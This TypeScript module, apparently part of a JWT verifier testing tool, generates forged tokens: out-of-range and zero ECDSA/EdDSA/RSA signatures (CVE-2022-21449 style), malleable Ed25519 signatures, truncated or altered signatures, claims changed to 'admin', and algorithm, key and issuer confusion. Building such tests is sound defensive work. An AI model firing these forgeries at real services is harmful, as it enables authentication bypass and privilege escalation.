import { encode, type Forgery, genuine, inputOf, type Pair, pair, partsOf, signWith, type Victim } from './forging.ts'

const orders: Record<string, bigint> = {
  ES256: 0xffffffff00000000ffffffffffffffffbce6faada7179e84f3b9cac2fc632551n,
}
const primeOfP256 = 0xffffffff00000001000000000000000000000000ffffffffffffffffffffffffn
const orderOfEd25519 = 2n ** 252n + 27742317777372353535851937790883648493n

/** Signatures that a verifier accepts which does not check the range of their numbers (CVE-2022-21449 and its like). */
export function numbersOutOfRange(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const input = inputOf({ alg: key.alg, kid: key.kid, ...victim.header }, victim.claims())
    return Object.entries(numbersFor(key, input)).map(([name, signature]) => ({
      name: `${key.alg} signature: ${name}`,
      token: `${input}.${encode(signature)}`,
    }))
  })
}

function numbersFor(key: Pair, input: string): Record<string, Buffer> {
  if (key.alg === 'EdDSA') return forEd25519(key, input)
  return key.alg.startsWith('RS') ? forRsa(key) : forEcdsa(key)
}

function forEcdsa({ alg }: Pair): Record<string, Buffer> {
  const n = orders[alg] ?? 0n
  const numbers = { '0': 0n, '1': 1n, n, 'n-1': n - 1n, 'n+1': n + 1n, p: primeOfP256, max: 2n ** 256n - 1n }
  const raw = Object.entries(numbers).flatMap(([r, left]) =>
    Object.entries(numbers).map(([s, right]): [string, Buffer] => [`r=${r} s=${s}`, Buffer.concat([bytes(left, 32), bytes(right, 32)])]),
  )
  return {
    ...Object.fromEntries(raw),
    'DER r=0 s=0': Buffer.from('3006020100020100', 'hex'),
    'DER r=1 s=1': Buffer.from('3006020101020101', 'hex'),
    'DER empty': Buffer.from('3000', 'hex'),
  }
}

function forEd25519(key: Pair, input: string): Record<string, Buffer> {
  const real = signWith(key.alg, key.privateKey, input)
  const s = BigInt(`0x${Buffer.from(real.subarray(32)).reverse().toString('hex')}`)
  const little = (value: bigint) => bytes(value, 32).reverse()
  const identity = little(1n)
  return {
    ones: Buffer.alloc(64, 255),
    'R the identity, s=0': Buffer.concat([identity, little(0n)]),
    'R of order 2, s=0': Buffer.concat([little(2n ** 255n - 20n), little(0n)]),
    'zeros: R of order 4, s=0': Buffer.concat([little(0n), little(0n)]),
    // The same signature with another spelling of s: who looks a token up by its text would not find it.
    's + L': Buffer.concat([real.subarray(0, 32), little(s + orderOfEd25519)]),
    's + 2L': Buffer.concat([real.subarray(0, 32), little(s + 2n * orderOfEd25519)]),
  }
}

function forRsa({ jwk }: Pair): Record<string, Buffer> {
  const n = BigInt(`0x${Buffer.from(String(jwk.n), 'base64url').toString('hex')}`)
  const size = Buffer.from(String(jwk.n), 'base64url').length
  return {
    '0': bytes(0n, size),
    '1': bytes(1n, size),
    'n-1': bytes(n - 1n, size),
    n: bytes(n, size),
    'n+1': bytes(n + 1n, size),
    ones: Buffer.alloc(size, 255),
    'one byte': Buffer.from([1]),
    'a cube that starts like PKCS #1': Buffer.concat([
      Buffer.alloc(size / 2),
      Buffer.from('0001ffffffffffffffff00', 'hex'),
      Buffer.alloc(size / 2 - 11),
    ]),
  }
}

function bytes(value: bigint, length: number): Buffer {
  return Buffer.from((value % 256n ** BigInt(length)).toString(16).padStart(length * 2, '0'), 'hex')
}

/** Genuine signatures, cut, lengthened, turned round and written in other encodings. */
export function changedSignatures(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const token = genuine(victim, key)
    const [header, payload, encoded] = partsOf(token)
    const real = Buffer.from(encoded, 'base64url')
    return Object.entries({ ...changesOf(real), ...(key.alg.startsWith('ES') && { ...asDer(real) }) }).map(([name, signature]) => ({
      name: `${key.alg} signature: ${name}`,
      token: `${header}.${payload}.${encode(signature)}`,
    }))
  })
}

function changesOf(real: Buffer): Record<string, Buffer> {
  const half = real.length / 2
  const cuts = [0, 1, 2, 8, half, real.length - 8, real.length - 1].map((length): [string, Buffer] => [
    `cut to ${length}`,
    real.subarray(0, length),
  ])
  const flips = [0, 1, half - 1, half, real.length - 1].flatMap(at =>
    [1, 128].map((bit): [string, Buffer] => [`bit ${bit} of byte ${at} flipped`, flipped(real, at, bit)]),
  )
  return {
    ...Object.fromEntries([...cuts, ...flips]),
    'halves swapped': Buffer.concat([real.subarray(half), real.subarray(0, half)]),
    'first half twice': Buffer.concat([real.subarray(0, half), real.subarray(0, half)]),
    reversed: Buffer.from(real).reverse(),
    'a zero in front': Buffer.concat([Buffer.alloc(1), real]),
    'a zero behind': Buffer.concat([real, Buffer.alloc(1)]),
    'zeros in front of each half': Buffer.concat([Buffer.alloc(2), real.subarray(0, half), Buffer.alloc(2), real.subarray(half)]),
    twice: Buffer.concat([real, real]),
    'as hexadecimal text': Buffer.from(real.toString('hex')),
    'as base64 text': Buffer.from(real.toString('base64')),
    complemented: Buffer.from(real.map(byte => byte ^ 255)),
  }
}

function flipped(real: Buffer, at: number, bit: number): Buffer {
  const copy = Buffer.from(real)
  copy[at] = (copy[at] ?? 0) ^ bit
  return copy
}

function asDer(real: Buffer): Record<string, Buffer> {
  const half = real.length / 2
  const integer = (value: Buffer) => {
    const padded = (value[0] ?? 0) > 127 ? Buffer.concat([Buffer.alloc(1), value]) : value
    return Buffer.concat([Buffer.from([2, padded.length]), padded])
  }
  const content = Buffer.concat([integer(real.subarray(0, half)), integer(real.subarray(half))])
  return { 'in DER': Buffer.concat([Buffer.from([0x30, content.length]), content]) }
}

/** Other contents under a genuine signature. */
export function changedContents(victim: Victim): Forgery[] {
  return victim.trusted.flatMap(key => {
    const [header, payload, signature] = partsOf(genuine(victim, key))
    const claims = JSON.parse(Buffer.from(payload, 'base64url').toString()) as Record<string, unknown>
    const changes: object[] = [
      { sub: 'admin' },
      { iss: victim.neighbour.issuer },
      { exp: Number(claims.exp) + 1 },
      { scope: 'admin' },
      { added: true },
      {},
    ]
    const other = partsOf(genuine(victim, key, { sub: 'admin' }))
    return [
      ...changes.map(change => ({
        name: `${key.alg}: ${JSON.stringify(change)} under the signature of another token`,
        // `{}`: the same claims in another order.
        token: `${header}.${encode(Object.fromEntries(Object.entries({ ...claims, ...change }).reverse()))}.${signature}`,
      })),
      { name: `${key.alg}: the payload of another genuine token`, token: `${header}.${other[1]}.${signature}` },
      { name: `${key.alg}: the signature of another genuine token`, token: `${header}.${payload}.${other[2]}` },
      {
        name: `${key.alg}: a header that says more`,
        token: `${encode({ alg: key.alg, kid: key.kid, ...victim.header, x: 1 })}.${payload}.${signature}`,
      },
      { name: `${key.alg}: header and payload exchanged`, token: `${payload}.${header}.${signature}` },
      { name: `${key.alg}: no payload`, token: `${header}..${signature}` },
    ]
  })
}

/** Signatures of the right key by another algorithm than the header says, and of other keys of the same set. */
export function mixedUp(victim: Victim): Forgery[] {
  const input = (alg: string, kid: string) => inputOf({ alg, kid, ...victim.header }, victim.claims())
  const inRsa = victim.trusted.filter(({ alg }) => alg.startsWith('RS'))
  const ofRsa = inRsa.flatMap(key =>
    ['RS384', 'RS512', 'PS256', 'PS384', 'PS512'].map(alg => {
      const signed = input(key.alg, key.kid)
      return { name: `${key.alg}, signed with ${alg}`, token: `${signed}.${encode(signWith(alg, key.privateKey, signed))}` }
    }),
  )
  const ofOthers = victim.trusted.flatMap(key =>
    [...victim.trusted, victim.neighbour]
      .filter(other => other !== key)
      .map(other => {
        const signed = input(key.alg, key.kid)
        return {
          name: `kid of ${key.kid}, signed by ${other.kid}`,
          token: `${signed}.${encode(signWith(other.alg, other.privateKey, signed))}`,
        }
      }),
  )
  return [...ofRsa, ...ofOthers, ...otherCurves(victim), ...ofNeighbour(victim)]
}

function otherCurves(victim: Victim): Forgery[] {
  return victim.trusted
    .filter(({ alg }) => alg === 'ES256')
    .flatMap(({ kid }) =>
      ['ES384', 'ES512', 'ES256K'].flatMap(alg => {
        const attacker = pair(alg, kid)
        return ['ES256', alg].map(claimed => {
          const input = inputOf({ alg: claimed, kid, ...victim.header }, victim.claims())
          return { name: `alg ${claimed} on the curve of ${alg}`, token: `${input}.${encode(signWith(alg, attacker.privateKey, input))}` }
        })
      }),
    )
}

/** RFC 8725 §3.8: the key of one issuer is worth nothing for another. */
function ofNeighbour(victim: Victim): Forgery[] {
  const kids = [victim.neighbour.kid, undefined, ...victim.trusted.map(({ kid }) => kid)]
  return kids.map(kid => ({ name: `signed by another trusted issuer, kid ${kid}`, token: genuine(victim, victim.neighbour, {}, { kid }) }))
}
